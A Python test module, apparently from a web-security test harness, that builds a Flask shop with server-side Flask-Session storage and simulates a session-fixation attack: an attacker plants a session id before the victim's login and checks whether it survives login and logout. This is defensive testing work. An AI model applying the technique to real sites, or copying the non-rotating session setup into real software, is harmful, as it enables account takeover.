"""Somebody who knew a server-side session's id before the login is logged in after it.

Row `session-fixation`: with Flask-Session the cookie is only an id, and a login does not change
it. Whoever planted it, or read it on a shared computer, shares the login.
"""

from __future__ import annotations

from cachelib import FileSystemCache
from flask import Flask, session
from flask_session import Session

from ._browser import Browser
from ._people import inside, log_in, usual
from ._row import Outcome, Row, require
from ._target import Target

ROW = Row("plant a server-side session's id before the login")


def build(target: Target) -> Flask:
    """A shop whose baskets lie in Flask-Session, in files."""
    app = target.app(__name__)
    cache = FileSystemCache(str(target.folder / "sessions"))
    app.config.update(SESSION_TYPE="cachelib", SESSION_CACHELIB=cache)
    Session(app)
    usual(app)

    @app.get("/basket")
    def basket() -> str:
        session["basket"] = session.get("basket", 0) + 1
        return str(session["basket"])

    return target.ready(app)


def attack(target: Target) -> Outcome:
    """Get an id, give it to the victim, wait for the login; and again after a logout."""
    app = build(target)
    attacker = Browser(app)
    attacker.get("/basket")
    owner = Browser(app).steal_from(attacker)
    require(owner.get("/basket").text == "2", "a basket is lost before the login")
    log_in(owner)
    require(inside(owner), "the owner could not log in")
    require(owner.get("/basket").text == "3", "the basket is lost at the login")
    planted = inside(attacker)
    copied = Browser(app).steal_from(owner)
    owner.get("/logout")
    log_in(owner)
    replayed = inside(copied)
    require(inside(owner), "the owner could not log in again")
    won = ["by the planted id"] * planted + ["by an id from before the last logout"] * replayed
    return Outcome(planted or replayed, f"the attacker is in: {', '.join(won) or 'no'}")
